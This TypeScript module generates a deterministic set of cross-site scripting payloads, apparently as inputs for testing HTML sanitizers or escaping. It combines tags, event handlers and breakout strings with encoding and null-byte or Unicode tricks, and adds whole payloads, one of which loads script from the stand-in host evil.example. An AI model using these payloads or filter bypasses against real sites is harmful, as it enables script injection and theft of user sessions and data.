/** Words that would run in a page that prints what it is given: every one calls `alert`. The same list every time. */

const CALLS = ['alert(1)', 'alert`1`', 'window["al"+"ert"](1)', '(alert)(1)', 'top.alert(1)', 'self[`alert`](1)']
const TAGS = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'iframe',
    'details open',
    'input autofocus',
    'marquee',
    'object data=x',
  ],
  ...[
    'embed src=x',
    'select autofocus',
    'textarea autofocus',
    'button autofocus',
    'math',
    'style',
    'link rel=stylesheet href=x',
    'x tabindex=1',
  ],
  ...['table background=x', 'form', 'a href=#', 'frameset', 'source', 'track', 'object type=x'],
]
const EVENTS = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onmouseover',
    'onanimationstart',
    'onpointerenter',
    'onbegin',
    'onstart',
    'onclick',
  ],
  ...['onblur', 'onpageshow', 'onhashchange', 'onwheel', 'oncut', 'onbeforetoggle', 'onscrollend', 'oncanplay'],
]
const ESCAPES = [
  ...[
    '',
    '"',
    "'",
    '">',
    "'>",
    '"/>',
    '</title>',
    '</script>',
    '-->',
    '</textarea>',
    '</style>',
    ']]>',
    '`>',
    '\\">',
    '\u2028',
    '</main>',
  ],
  ...['"]}</script>', '\\u003c/script>', '</noscript>', '<!--', '<![CDATA[', '"}]}'],
]
const WHOLE = [
  ...[
    '<script>alert(1)</script>',
    '<script src=//evil.example/x.js></script>',
    '<script src="data:text/javascript,alert(1)"></script>',
  ],
  ...['<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src="javascript:alert(1)"></iframe>'],
  ...['<a href="javascript:alert(1)">x</a>', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ...['<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>'],
  ...[
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  ],
  ...[
    '<base href="javascript:alert(1)//">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
  ],
  ...[
    '<template><script>alert(1)</script></template>',
    '<style>@import "javascript:alert(1)";</style>',
    '[x](javascript:alert(1))',
  ],
  ...[
    '![x](javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x]( javascript:alert(1))',
    '[x](java\tscript:alert(1))',
  ],
  ...[
    'javascript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:alert(1)',
    '{{constructor.constructor("alert(1)")()}}',
  ],
  ...[
    '$' + '{alert(1)}',
    '#{alert(1)}',
    '<%= alert(1) %>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ],
]

type Change = (words: string) => string
const CHANGES: readonly Change[] = [
  (words) => words,
  (words) => words.toUpperCase().replaceAll('ALERT', 'alert'),
  (words) => words.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (words) => words.replaceAll('<', '&#x3c;').replaceAll('"', '&quot;'),
  (words) => encodeURIComponent(words),
  (words) => encodeURIComponent(encodeURIComponent(words)),
  (words) => words.replaceAll('<', '\\u003c'),
  (words) => words.replaceAll('<', '＜').replaceAll('>', '＞'),
  (words) => words.replaceAll(' ', '/'),
  (words) => words.replaceAll(' ', '\t'),
  (words) => words.replaceAll('<', '<\u0000'),
  (words) => words.replaceAll('on', 'o\u0000n'),
  (words) => words.replaceAll('javascript', 'java\nscript'),
  (words) => words.replaceAll('<', '\u202e<'),
  (words) => `Hội nghị ${words} dân vận`,
]

/** `count` different payloads, drawn from all combinations with a fixed step, so that every part of them comes up. */
export function payloads(count: number): string[] {
  const found = new Set<string>(WHOLE.flatMap((words) => CHANGES.map((change) => change(words))))
  const total = TAGS.length * EVENTS.length * ESCAPES.length * CHANGES.length
  // A step that shares no factor with the total visits every combination once.
  for (let at = 0, n = 0; found.size < count && n < total; n += 1, at = (at + 7919) % total) found.add(combination(at))
  return [...found].slice(0, count)
}

function combination(at: number): string {
  const pick = <T>(list: readonly T[], n: number) => list[n % list.length] as T
  const tag = pick(TAGS, at)
  const event = pick(EVENTS, Math.floor(at / TAGS.length))
  const breakout = pick(ESCAPES, Math.floor(at / (TAGS.length * EVENTS.length)))
  const change = pick(CHANGES, Math.floor(at / (TAGS.length * EVENTS.length * ESCAPES.length)))
  return change(`${breakout}<${tag} ${event}=${pick(CALLS, at)}>`)
}
